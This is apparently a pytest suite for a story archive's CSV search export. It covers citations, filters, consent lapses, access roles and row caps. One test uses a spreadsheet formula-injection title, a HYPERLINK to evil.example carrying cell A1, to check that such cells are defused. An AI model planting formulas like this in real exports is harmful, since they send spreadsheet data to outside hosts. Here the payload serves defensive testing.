"""The CSV of a library search: the page's own query, one row per story the rule allows now (never
its text), a citation and a stable URL per story, the date and the consent terms, formulas defused,
a cap said aloud, and a withdrawn or lapsed story gone from it at once."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from archive.extensions import db
from archive.library import search_csv as search_export
from archive.models import Story, utcnow
from tests.fixtures.stories import STORY_TEXT
from tests.test_search_facets import index_busy, search_backend  # noqa: F401 (both backends)

URL = "/library/search.csv"


def read_csv(client, query: str = "") -> tuple[list[dict], list[list[str]]]:
    """Return (rows as dicts, trailing lines) of the export for ``query``."""
    response = client.get(f"{URL}?{query}")
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    lines = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert tuple(lines[0]) == search_export.COLUMNS
    blank = lines.index([])
    rows = [dict(zip(lines[0], line, strict=True)) for line in lines[1:blank]]
    return rows, lines[blank + 1 :]


def test_each_row_names_cites_and_dates_a_story_without_its_text(app, stories, sign_in):
    story_id = stories.shelved(
        "The midwife came by boat. " + STORY_TEXT,
        title="By boat",
        topics=("maternal-health", "waiting", "boats"),
        warnings=("death",),
    ).story_id
    stories.shelved("Nothing about the river here.", title="Other")
    rows, tail = read_csv(sign_in("educator"), "q=midwife")
    today = utcnow().date().isoformat()
    assert len(rows) == 1
    row = rows[0]
    with app.app_context():
        published = db.session.get(Story, story_id).published_at.date().isoformat()
    assert row == {
        "url": f"http://localhost/stories/{story_id}",
        "title": "By boat",
        "language": "English",
        "topics": "Boats; Pregnancy and childbirth; Waiting",
        "content_warnings": "Death",
        "published": published,
        "consent_allows": "text",
        "first_match_at": "",  # a typed story: nothing to listen to
        "first_match_url": "",
        "citation": (
            '"By boat". Story told by an anonymous storyteller, written down with consent for teaching. '
            f"story-archive, published {published}. http://localhost/stories/{story_id}. Accessed {today}."
        ),
        "exported": today,
    }
    assert tail[0][0].startswith(f"Exported {today}. Consent terms: each story is shared by its storyteller")
    assert tail[1] == ["1 story listed."]


def test_no_story_text_is_ever_in_the_export(app, stories, sign_in):
    stories.shelved(STORY_TEXT, title="The cough")
    body = sign_in("educator").get(f"{URL}?q=cough").get_data(as_text=True)
    assert "The cough" in body
    for sentence in STORY_TEXT.split(". "):
        assert sentence[:40] not in body


def test_the_export_takes_the_same_filters_as_the_page(app, stories, sign_in):
    kept = stories.shelved("Grief for the farm.", topics=("stigma",)).story_id
    stories.shelved("Grief after the suicide.", topics=("stigma",), warnings=("suicide",))
    stories.shelved("Grief, untagged.")
    stories.shelved("Huzuni kubwa.", topics=("stigma",), language="sw")
    educator = sign_in("educator")
    rows, _ = read_csv(educator, "q=grief&tag=stigma&without=suicide&lang=en&page=7")  # page is ignored
    assert [r["url"].rsplit("/", 1)[1] for r in rows] == [kept]
    page = educator.get("/library?q=grief&tag=stigma&without=suicide").get_data(as_text=True)
    assert 'href="/library/search.csv?q=grief&amp;tag=stigma&amp;without=suicide"' in page


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_a_cell_a_spreadsheet_would_run_is_kept_as_text(app, stories, sign_in, start):
    title = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    stories.shelved("A story whose title was made to run.", title=title, topics=(f"{start.strip()}cmd",))
    rows, _ = read_csv(sign_in("educator"))
    assert rows[0]["title"] == "'" + title
    assert not any(value.startswith(("=", "+", "-", "@", "\t")) for value in rows[0].values())
    assert search_export.cell("=1+1") == "'=1+1" and search_export.cell("1+1") == "1+1"


def test_a_withdrawn_story_is_gone_from_the_export_at_once(app, sign_in, ingest, publish, withdraw):
    _, staying, _, _ = ingest(title="Staying")
    _, leaving, code, secret = ingest(title="Leaving")
    publish(staying)
    publish(leaving)
    educator = sign_in("educator")
    rows, _ = read_csv(educator, "q=tuberculosis")
    assert {r["title"] for r in rows} == {"Staying", "Leaving"}
    withdraw(code, secret)
    rows, tail = read_csv(educator, "q=tuberculosis")
    body = educator.get(f"{URL}?q=tuberculosis").get_data(as_text=True)
    assert [r["title"] for r in rows] == ["Staying"] and tail[1] == ["1 story listed."]
    assert leaving not in body and "Leaving" not in body


def test_a_story_whose_consent_lapsed_since_indexing_is_not_listed(app, stories, sign_in):
    gone = stories.shelved("Grief that was shared for a while.", title="Lapsed").story_id
    stories.shelved("Grief that is still shared.", title="Kept")
    with app.app_context():
        db.session.get(Story, gone).consent.expires_at = utcnow() - timedelta(seconds=1)
        db.session.commit()
    with index_busy(app):  # the stale entry cannot be removed now; the rule still holds
        rows, _ = read_csv(sign_in("educator"), "q=grief")
    assert [r["title"] for r in rows] == ["Kept"]


def test_a_capped_export_says_so_in_its_last_line(app, stories, sign_in, monkeypatch):
    for n in range(3):
        stories.shelved(f"Ferry story {n}.")
    monkeypatch.setattr(search_export, "MAX_ROWS", 2)
    rows, tail = read_csv(sign_in("educator"), "q=ferry")
    assert len(rows) == 2
    assert tail[-1] == [
        "Only the first 2 of 3 matching stories are listed; narrow the search to see the rest."
    ]


def test_a_query_the_search_refuses_is_a_400_before_any_row(app, sign_in):
    limit = app.config["MAX_QUERY_CHARS"]
    response = sign_in("educator").get(f"{URL}?q={'x' * (limit + 1)}")
    assert response.status_code == 400
    assert f"Search for at most {limit} characters." in response.get_data(as_text=True)


@pytest.mark.parametrize("role,status", [("facilitator", 403), ("reviewer", 403), ("admin", 200)])
def test_only_educators_and_admins_export(app, stories, sign_in, role, status):
    stories.shelved("Grief.", title="Anything")
    response = sign_in(role).get(URL)
    assert response.status_code == status
    assert (b"Anything" in response.data) == (status == 200)


def test_signed_out_visitors_are_sent_to_sign_in(app, client):
    response = client.get(URL)
    assert response.status_code == 302 and "/login" in response.location
